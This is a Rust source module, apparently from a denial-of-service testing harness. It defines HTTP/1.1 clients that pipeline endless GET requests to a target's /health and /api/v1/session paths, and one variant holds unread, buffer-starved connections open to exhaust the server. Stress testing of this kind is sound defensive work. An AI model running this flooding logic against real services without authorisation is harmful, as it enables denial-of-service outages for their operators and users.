//! HTTP/1.1 clients that pipeline endless requests.

use super::attack::{Attack, MEGABYTE, Transport};
use super::flood::flood;
use super::progress::{Pace, Progress};
use super::target::Target;
use crate::Result;
use crate::link::Link;
use rustix::net::sockopt::set_socket_recv_buffer_size;
use std::net::Ipv4Addr;
use std::thread;
use std::time::{Duration, Instant};

/// The number of clients.
const CLIENTS: usize = 4;
/// Bytes per second of all clients together.
const RATE: f64 = 8.0 * MEGABYTE as f64;
/// The number of blocked connections that a client keeps open.
const HELD: usize = 16;
/// A connection counts as blocked after this time without progress.
const FULL: Duration = Duration::from_millis(150);
const RETRY_DELAY: Duration = Duration::from_millis(100);

pub fn attacks() -> Vec<Attack> {
    let attack = |name, client: Client| {
        Attack::new("requests", name, move |target, progress| {
            each_client(target, progress, client)
        })
        .short(Some(Transport::Tls))
    };
    vec![
        attack("pipelined requests whose answers are not read", unread),
        attack("pipelined requests whose answers are read", read),
    ]
}

type Client = fn(&Target, Ipv4Addr, &Progress) -> Result<()>;

fn each_client(target: &Target, progress: &Progress, client: Client) -> Result<()> {
    thread::scope(|scope| {
        for _ in 0..CLIENTS {
            let from = target.new_address();
            scope.spawn(move || {
                while progress.is_running() {
                    if let Err(error) = client(target, from, progress) {
                        progress.ended(error);
                    }
                    progress.sleep(RETRY_DELAY);
                }
            });
        }
    });
    Ok(())
}

fn requests(target: &Target) -> Vec<u8> {
    let one = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", target.address);
    let two = one("/health") + &one("/api/v1/session");
    two.repeat(100).into_bytes()
}

fn read(target: &Target, from: Ipv4Addr, progress: &Progress) -> Result<()> {
    let mut link = target.connect(from)?;
    progress.connected();
    let piece = requests(target);
    let mut pace = Pace::new(RATE / CLIENTS as f64);
    if let Some(how) = flood(&mut link, progress, &mut pace, || piece.clone(), |_| {}) {
        progress.ended(how);
    }
    Ok(())
}

/// Fills one connection after another without reading, and keeps them open.
fn unread(target: &Target, from: Ipv4Addr, progress: &Progress) -> Result<()> {
    let piece = requests(target);
    let mut pace = Pace::new(RATE / CLIENTS as f64);
    let mut held: Vec<Link> = Vec::new();
    while progress.is_running() {
        if held.len() >= HELD {
            held.remove(0);
        }
        let mut link = target.connect(from)?;
        progress.connected();
        set_socket_recv_buffer_size(link.stream(), 4096)?;
        let mut last = Instant::now();
        while progress.is_running() && last.elapsed() < FULL {
            // `push` does not read.
            match link.push(&piece) {
                Ok(0) => {
                    link.wait_ready(true, Duration::from_millis(20))?;
                    progress.sleep(Duration::from_millis(5));
                }
                Ok(count) => {
                    last = Instant::now();
                    progress.sent(count);
                    pace.sent(count);
                }
                Err(error) => {
                    progress.ended(super::flood::describe_error(&error));
                    break;
                }
            }
        }
        held.push(link);
    }
    Ok(())
}
